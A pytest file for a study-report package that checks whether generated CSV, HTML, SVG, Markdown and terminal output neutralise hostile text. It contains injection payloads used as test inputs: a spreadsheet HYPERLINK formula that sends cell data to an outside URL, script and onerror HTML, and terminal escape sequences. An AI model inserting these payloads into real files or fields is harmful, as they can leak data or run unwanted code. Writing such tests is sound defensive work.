"""Hostile titles, labels, options and reasons: no file contains a formula, HTML or a terminal escape."""

import csv
import re
import xml.etree.ElementTree

import pytest
from study_results import complete

from mocose_hf.study import Cell, Study, TrialResult
from mocose_hf.study.cli import main
from mocose_hf.study.report.csv_export import spreadsheet_cell
from mocose_hf.study.report.write_report import write_report
from mocose_hf.study.study import StudyData, printable_line
from mocose_hf.study.trial_runner import TrialRunner

pytest.importorskip("matplotlib")

FORMULA = '=HYPERLINK("http://x.org?"&A1,"click")'
HTML = "<script>alert(1)</script><img src=x onerror=alert(2)>"
ESCAPE = "\x1b]0;owned\x07\x1b[2J\u202e"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (FORMULA, f"'{FORMULA}"),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'=1+1"),
        ("\r\n=1+1", "'=1+1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("-0.5", "-0.5"),
        ("+1e-5", "+1e-5"),
        ("−0.5", "−0.5"),
        ("η = 0.5", "η = 0.5"),
        (-0.5, -0.5),
        (None, None),
        ("", ""),
    ],
)
def test_formulas_are_quoted_and_numbers_are_not(text, shown):
    assert spreadsheet_cell(text) == shown


def test_control_characters_are_shown():
    assert printable_line("a\x1b[31m\x00\n b\u202e\u2066é\u00a0½") == "a\\x1b[31m\\x00  b\\u202e\\u2066é\u00a0½"


@pytest.fixture(params=["bars", "line", "curves", "spectrum"])
def hostile(request) -> tuple[Study, list[TrialResult], dict]:
    """A study in which every text is hostile in all three ways."""
    bad = [FORMULA, HTML + ESCAPE]
    cells = [Cell(text, column, {FORMULA: HTML + ESCAPE}, x=1.0) for text in bad for column in ("", HTML, "@x")]
    study = Study("s", HTML + ESCAPE, FORMULA + ESCAPE, HTML, cells, plot=request.param, x_label=HTML + ESCAPE)
    results = [
        complete(
            "s", cell.label, seed, 70.0 + seed, curve=[(1, 60.0), (2, 61.0 + seed)], spectrum=[2.0, 1.0],
            options={"run_name": FORMULA, "project": HTML + ESCAPE}, figures={"=1+1": 1.0},
        )
        for cell in cells[:-1]
        for seed in (0, 1)
    ]  # fmt: skip
    results.append(TrialResult("s", cells[-1].label, 0, "failed", reason=FORMULA + HTML + ESCAPE))
    return study, results, {"encoder": HTML + ESCAPE, "max_steps": FORMULA}


def test_no_file_of_a_report_is_dangerous(hostile, tmp_path):
    write_report(tmp_path, [StudyData(*hostile)])
    paths = list(tmp_path.iterdir())
    assert {path.suffix for path in paths} == {".csv", ".md", ".tex", ".png", ".svg", ".html", ".json"}
    for path in paths:
        if path.suffix == ".png":
            continue
        text = path.read_text(encoding="utf-8")
        assert not re.search("[\x00-\x08\x0b-\x1f\x7f\u202e]", text), path.name
        if path.suffix == ".svg":
            xml.etree.ElementTree.fromstring(text)
            assert "<script" not in text
        if path.suffix == ".html":
            assert "<script" not in text
            assert len(re.findall("<img", text)) == 1
        if path.suffix == ".md":
            assert not re.search(r"(?<!\\)<(?!br>)", text)
        if path.suffix == ".csv":
            with path.open(encoding="utf-8", newline="") as file:
                values = [value for row in csv.reader(file) for value in row]
            assert any(value.startswith("'=") for value in values)
            assert not any(value.startswith(("=", "@")) for value in values)


def test_output_cannot_steer_the_terminal(tmp_path, capsys):
    (tmp_path / "mine.yaml").write_text(
        'title: "\\e]0;x\\a"\ncells: {"\\e[31mred": {run_name: "\\e[2J"}, "\\u202eb": {}}', encoding="utf-8"
    )
    assert main(["list", str(tmp_path / "mine.yaml")]) == 0
    output = capsys.readouterr().out
    assert r"\x1b[31mred" in output
    assert r"--run_name \x1b[2J" in output
    assert not set("\x1b\x07\u202e") & set(output)


def test_a_long_label_makes_a_folder_of_its_own(tmp_path):
    labels = ["x = 1, " * 60 + f"y = {i}" for i in (1, 2)]
    runner = TrialRunner("s", {}, tmp_path)
    folders = {runner.folder_of(label, 0) for label in labels}
    assert len(folders) == 2
    for folder in folders:
        folder.mkdir(parents=True)
